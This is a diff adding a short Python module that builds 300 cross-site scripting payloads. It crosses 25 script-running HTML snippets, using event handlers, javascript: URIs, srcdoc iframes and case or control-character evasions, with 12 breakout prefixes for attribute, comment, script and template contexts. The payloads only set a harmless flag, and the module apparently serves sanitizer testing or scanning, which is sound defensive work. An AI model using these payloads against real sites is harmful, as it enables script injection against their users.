@@ -1,0 +1,42 @@
+"""Texts that would run a script where a page wrote them as markup: each marks the window when it does. Three hundred."""
+
+from itertools import product
+
+RUN = "window.executed=1"
+ELEMENTS = [
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{RUN}></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src=javascript:{RUN}>",
+    f"<a href=javascript:{RUN} autofocus>x</a>",
+    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
+    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<link rel=stylesheet href=data:, onload={RUN}>",
+    f"<style onload={RUN}></style>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<base href=javascript:{RUN}//>",
+    f"<template><img src=x onerror={RUN}></template><img src=x onerror={RUN}>",
+    f"<img src=x onerror=\x0b{RUN}>",
+    f"<IMG SRC=x OnErRoR={RUN}>",
+]
+# What the text may stand in where it is written: markup, an attribute, a comment, a script, a template, a text area.
+PLACES = [
+    "%", '"><%', "'>%", "-->%", "</script>%", "</textarea></title>%", "{{7*7}}%", "\\u003c%", "]]>%", "`${%}`",
+    f'" autofocus onfocus={RUN} x="%', "&lt;%",
+]  # fmt: skip
+
+
+def payloads() -> list[str]:
+    """All of them."""
+    return [place.replace("%", element) for place, element in product(PLACES, ELEMENTS)]
